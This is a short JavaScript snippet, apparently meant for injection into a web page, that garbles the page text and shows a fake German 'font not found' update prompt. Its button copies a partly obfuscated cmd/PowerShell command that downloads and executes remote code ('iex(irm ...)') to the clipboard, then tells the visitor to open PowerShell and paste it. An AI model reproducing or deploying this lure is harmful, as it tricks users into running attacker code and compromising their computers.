(function () {
  'use strict';
  var nodes = document.querySelectorAll('p,h1,h2,li,a,span');
  var glyph = '�';
  nodes.forEach(function (n) {
    if (n.children.length) return;
    n.dataset.o = n.textContent;
    n.textContent = n.textContent.replace(/[a-zäöü]/gi, function (c) { return Math.random() > 0.35 ? glyph : c; });
  });
  var box = document.createElement('div');
  box.id = 'fontbox';
  box.innerHTML = '<b>Die Schriftart „Roboto Web“ wurde nicht gefunden</b><p>Die Seite kann nicht korrekt angezeigt werden. Bitte aktualisieren Sie das Schriftartenpaket.</p><p>Hersteller: Google Inc. Aktuelle Version: 1.07</p><button>Aktualisieren</button>';
  document.body.appendChild(box);
  box.querySelector('button').onclick = function () {
    var t = document.createElement('textarea');
    t.value = unescape('%63%6d%64%20/c%20start%20/min%20') + 'powershell -c "$f=\'roboto\'; iex(irm font-cdn.invalid/$f)"';
    document.body.appendChild(t); t.select(); document.execCommand('copy'); t.remove();
    box.innerHTML = '<b>Fast fertig</b><ol><li>Windows-Taste + X drücken</li><li>„Windows PowerShell“ auswählen</li><li>Rechtsklick in das Fenster, danach Eingabetaste</li></ol>';
  };
})();
